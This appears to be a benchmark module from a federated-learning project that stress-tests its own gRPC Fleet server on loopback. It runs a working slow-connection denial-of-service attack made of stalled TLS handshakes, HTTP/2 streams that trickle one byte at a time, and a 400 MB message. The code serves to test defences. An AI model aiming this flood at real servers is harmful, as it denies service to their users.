"""An attack on a Fleet port of loopback, bounded in connections, bytes and time: `python -m benchmarks._flood ...`.

Half of the connections never finish the TLS handshake. The others finish it, open a call and send a byte of its message
every few seconds. Who is cut comes back. Beside them, one call has a message of hundreds of megabytes.
"""

from __future__ import annotations

import argparse
import socket
import ssl
import struct
import sys
import threading
import time
from contextlib import suppress
from pathlib import Path

import grpc

from benchmarks._federation import Loopback
from dqnfed_flwr.deploy import node_certificates, pki
from dqnfed_flwr.deploy.node_certificates import authority
from dqnfed_flwr.deploy.plan import Node

CONNECTIONS, BYTES, PAUSE_SECONDS = 200, 400_000_000, 4.0
CALL = "/flwr.proto.Fleet/PullMessages"
HELLO = b"\x16\x03\x01\x3f\xff\x01\x00\x3f\xfb\x03\x03"
"""The beginning of a handshake that announces 16 KB."""


def slow_call() -> bytes:
    """The beginning of a call in HTTP/2, whose message announces 8 MB."""
    fields = {":method": "POST", ":scheme": "https", ":path": CALL, ":authority": "localhost"}
    fields |= {"te": "trailers", "content-type": "application/grpc"}
    words = [word.encode() for pair in fields.items() for word in pair]
    packed = b"".join(
        b"\x00" + b"".join(bytes([len(word)]) + word for word in words[k : k + 2]) for k in range(0, len(words), 2)
    )
    start = frame(0, 0, 1, struct.pack(">BI", 0, 8_000_000))
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 4, 1, packed) + start


def frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


class Slow:
    """One slow connection, with TLS if there is a `context`: it begins with `opening` and goes on with `more`."""

    def __init__(self, port: int, context: ssl.SSLContext | None, opening: bytes, more: bytes = b"\x00") -> None:
        self.port, self.context, self.opening, self.more = port, context, opening, more
        self.end: socket.socket | None = None

    def beat(self) -> None:
        """Send a little more; begin anew where the connection was cut."""
        try:
            if self.end is None:
                self._begin()
            else:
                self.end.sendall(self.more)
                with suppress(TimeoutError, ssl.SSLWantReadError):
                    if not self.end.recv(65536):
                        raise OSError
        except OSError:
            self.close()

    def _begin(self) -> None:
        self.end = socket.create_connection(("127.0.0.1", self.port), 5)  # kept at once, so that a failure closes it
        if self.context is not None:
            self.end = self.context.wrap_socket(self.end, server_hostname="localhost")
        self.end.sendall(self.opening)
        self.end.settimeout(0.01)

    def close(self) -> None:
        """Leave."""
        if self.end is not None:
            self.end.close()
        self.end = None


def crowd(port: int, context: ssl.SSLContext, call: bytes, more: bytes = b"\x00") -> list[Slow]:
    """All slow connections: every other one begins `call` and goes on with `more`, the rest a handshake."""
    halves = ((None, HELLO, b"\x00"), (context, call, more))
    return [Slow(port, *halves[number % 2]) for number in range(CONNECTIONS)]


def huge(port: int, ca: bytes, key: bytes | None, chain: bytes | None, seconds: float) -> str:
    """One call with a huge message, sent again until the time is over; what became of the last."""
    over, said, message = time.monotonic() + seconds, "", bytes(BYTES)
    while time.monotonic() < over:
        credentials = grpc.ssl_channel_credentials(ca, key, chain)
        with grpc.secure_channel(f"localhost:{port}", credentials, [("grpc.max_send_message_length", -1)]) as channel:
            try:
                channel.unary_unary(CALL)(message, timeout=max(over - time.monotonic(), 1.0))
            except grpc.RpcError as error:
                said = str(error.code())
        time.sleep(PAUSE_SECONDS)
    return said


def command(server: Loopback, seconds: float, pair: tuple[Path, Path] | None = None) -> list[str]:
    """The command that attacks the Fleet port of `server`, with a certificate and its key if a pair is given."""
    ca = server.directory / "server" / "ca.crt"
    shown = ["--pair", *map(str, pair)] if pair else []
    return [sys.executable, "-m", "benchmarks._flood", str(server.federation.fleet_port), str(ca), str(seconds), *shown]


def listed_pair(server: Loopback, name: str) -> tuple[Path, Path]:
    """Certificate and key of one node more of the federation, which is on the list and not started."""
    place = server.directory / "nodes" / name
    place.mkdir()
    private, public = pki.make_node_key(name)
    (place / "node.pub").write_bytes(public)
    (place / "shown.key").write_bytes(pki.private_pem(pki.load_node_key(private)))
    node_certificates.certify(server.directory, authority(server.directory), [Node(name, 9, 1)])
    return place / "node.crt", place / "shown.key"


def main() -> None:
    """Attack."""
    parser = argparse.ArgumentParser()
    for name, kind in (("port", int), ("ca", Path), ("seconds", float)):
        parser.add_argument(name, type=kind)
    parser.add_argument("--pair", type=Path, nargs=2, metavar=("CERTIFICATE", "KEY"))
    given = parser.parse_args()
    context = ssl.create_default_context(cafile=str(given.ca))
    context.set_alpn_protocols(["h2"])
    key = chain = None
    if given.pair:
        context.load_cert_chain(*given.pair)
        chain, key = (path.read_bytes() for path in given.pair)
    said: list[str] = []
    beside = threading.Thread(
        target=lambda: said.append(huge(given.port, given.ca.read_bytes(), key, chain, given.seconds))
    )
    beside.start()
    slow = crowd(given.port, context, slow_call(), frame(0, 0, 1, b"\x00"))
    over = time.monotonic() + given.seconds
    while (now := time.monotonic()) < over:
        for one in slow:
            one.beat()
        time.sleep(max(0.0, now + PAUSE_SECONDS - time.monotonic()))
    for one in slow:
        one.close()
    beside.join()
    print("the huge call:", *said)


if __name__ == "__main__":
    main()
